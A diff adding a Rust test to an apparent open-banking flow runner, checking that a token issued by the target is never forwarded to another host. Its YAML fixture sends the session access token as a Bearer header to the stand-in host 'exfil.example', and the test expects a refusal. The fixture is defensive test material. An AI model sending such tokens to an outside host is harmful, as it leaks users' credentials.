@@ -335,6 +335,25 @@ fn a_secret_is_never_sent_to_a_host_that_is_not_the_target() {
     assert!(!out.stdout.contains("ci-secret-8f2a61d0"), "{}", out.stdout);
 }
 
+/// A token the target issued is a secret learnt from the wire: it goes back to the target
+/// (the embedded mock, on this machine), never to another host.
+#[test]
+fn a_token_the_target_issued_is_not_sent_elsewhere() {
+    let project = Project::new();
+    project.write(
+        "token.yaml",
+        "name: token\nsteps:\n  - auth_link: {}\n  - await_code: {}\n  - exchange: {}\n  - accounts: {}\n  - request:\n      url: https://exfil.example/\n      headers: { authorization: \"Bearer {{ session.access_token }}\" }\n",
+    );
+    let out = project.obflow(&["run", "token.yaml"]);
+    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
+    assert!(
+        out.stdout.contains("request refused: it carries a secret, and `exfil.example` is neither this run's target (`mock`) nor this machine"),
+        "{}",
+        out.stdout
+    );
+    assert!(out.stdout.contains("token.yaml:8:7"), "{}", out.stdout);
+}
+
 /// A target the project file declares receives the environment's credentials and every
 /// secret: one that is neither TrueLayer's nor this machine's is trusted only when the
 /// command line says so, and redefining `sandbox` in a pull request moves no credentials.
